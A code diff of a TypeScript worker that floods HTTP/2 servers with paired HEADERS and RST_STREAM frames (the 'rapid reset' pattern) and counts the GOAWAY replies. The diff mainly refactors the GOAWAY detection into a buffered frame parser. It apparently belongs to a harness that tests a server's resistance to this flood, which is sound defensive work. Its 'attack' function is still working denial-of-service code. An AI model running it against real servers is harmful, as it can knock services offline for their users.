@@ -29,7 +29,7 @@ const [ca, cert, key] = [task.caFile, task.certFile, task.keyFile].map((file) =>
 /** RFC 7541: GET and https are indexed, the authority and the path are literal. */
 const path = Buffer.from(task.path);
 const block = Buffer.concat([Buffer.of(0x82, 0x87, 0x01, 1), Buffer.from('x'), Buffer.of(0x04, path.length), path]);
-const end = performance.now() + task.seconds * 1000;
+const endsAt = performance.now() + task.seconds * 1000;
 let [resets, sentAway, closed] = [0, 0, 0];
 
 /** One connection, until the server ends it or the time is over. */
@@ -39,7 +39,7 @@ function attack(port: number): Promise<void> {
     let stream = 1;
     const more = (): void => {
       for (;;) {
-        if (performance.now() >= end || stream > streamIdsMax - 2 * streamsEach) { socket.destroy(); return; }
+        if (performance.now() >= endsAt || stream > streamIdsMax - 2 * streamsEach) { socket.destroy(); return; }
         const frames: Buffer[] = [];
         for (let each = 0; each < streamsEach; each += 1, stream += 2) frames.push(frame(frameTypes.headers, 5, stream, block), frame(frameTypes.reset, 0, stream, cancel));
         resets += streamsEach;
@@ -47,23 +47,35 @@ function attack(port: number): Promise<void> {
       }
     };
     socket.on('error', () => undefined).on('drain', more).once('close', () => { resolve(); });
-    socket.on('data', (chunk: Buffer) => { if (isSendingAway(chunk)) { sentAway += 1; socket.destroy(); } });
+    let rest: Buffer = Buffer.alloc(0);
+    socket.on('data', (chunk: Buffer) => {
+      const bytes = Buffer.concat([rest, chunk]);
+      const { away, end: parsed } = framesIn(bytes);
+      rest = bytes.subarray(parsed);
+      if (!away) return;
+      sentAway += 1;
+      socket.destroy();
+    });
     socket.once('secureConnect', () => { socket.write(Buffer.concat([http2Preface, frame(frameTypes.settings, 0, 0, Buffer.alloc(0))])); more(); });
-    setTimeout(() => { socket.destroy(); }, Math.max(0, end - performance.now())).unref();
+    setTimeout(() => { socket.destroy(); }, Math.max(0, endsAt - performance.now())).unref();
   });
 }
 
-/** A GOAWAY at the beginning of some frame; the server sends little else. */
-function isSendingAway(bytes: Buffer): boolean {
-  for (let at = 0; at + 9 <= bytes.length; at += 9 + bytes.readUIntBE(at, 3)) if (bytes[at + 3] === frameTypes.goaway) return true;
-  return false;
+/** Whether there is a GOAWAY among the whole frames, and where these end. */
+function framesIn(bytes: Buffer): { readonly away: boolean; readonly end: number } {
+  let [away, at] = [false, 0];
+  while (at + 9 <= bytes.length && at + 9 + bytes.readUIntBE(at, 3) <= bytes.length) {
+    away ||= bytes[at + 3] === frameTypes.goaway;
+    at += 9 + bytes.readUIntBE(at, 3);
+  }
+  return { away, end: at };
 }
 
 process.send?.('open');
 await Promise.all(Array.from({ length: task.connections }, async (_, each) => {
-  while (performance.now() < end) {
+  while (performance.now() < endsAt) {
     await attack(task.ports[each % task.ports.length] as number);
-    if (performance.now() < end) closed += 1;
+    if (performance.now() < endsAt) closed += 1;
   }
 }));
 process.send?.('offered');
